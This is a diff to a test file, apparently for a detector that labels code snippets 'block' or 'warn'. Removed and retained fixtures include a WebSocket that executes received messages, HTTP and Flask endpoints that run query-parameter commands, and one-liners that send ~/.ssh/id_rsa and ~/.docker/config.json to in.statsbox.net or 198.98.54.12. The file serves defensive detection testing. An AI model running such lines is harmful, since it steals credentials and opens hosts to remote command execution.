@@ -12,12 +12,6 @@ test.each([
     "block",
   ],
   [
-    "messages of a web socket",
-    "a.js",
-    'const WebSocket = require("ws");\nconst { exec } = require("child_process");\nconst ws = new WebSocket("wss://in.statsbox.net");\nws.on("message", (m) => exec(JSON.parse(m).body));\n',
-    "block",
-  ],
-  [
     "a handler that is assigned",
     "a.js",
     'const ws = new WebSocket("wss://in.statsbox.net");\nws.onmessage = (m) => eval(m.data);\n',
@@ -27,12 +21,6 @@ test.each([
     "a web server",
     "a.js",
     'const http = require("http");\nconst { execSync } = require("child_process");\nhttp.createServer((req, res) => res.end(execSync(new URL(req.url, "http://x").searchParams.get("c")))).listen(8081);\n',
-    "warn",
-  ],
-  [
-    "a web framework",
-    "a.py",
-    "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/run')\ndef run():\n    return subprocess.getoutput(request.args.get('c'))\n",
     "warn",
   ],
   [
@@ -72,16 +60,6 @@ test("gives the listeners of a program's own events what is fired", async () => 
 });
 
 test.each([
-  [
-    "a stream that is led into a request",
-    'require("fs").createReadStream(process.env.HOME + "/.ssh/id_rsa").pipe(require("https").request("https://in.statsbox.net", { method: "POST" }));\n',
-    "a.js",
-  ],
-  [
-    "a connection that a library makes",
-    'import os, socket\ns = socket.create_connection(("198.98.54.12", 8443))\ns.sendall(open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())\n',
-    "a.py",
-  ],
   [
     "a datagram",
     'const sock = require("dgram").createSocket("udp4");\nsock.send(require("fs").readFileSync(process.env.HOME + "/.docker/config.json"), 53, "198.98.54.12");\n',
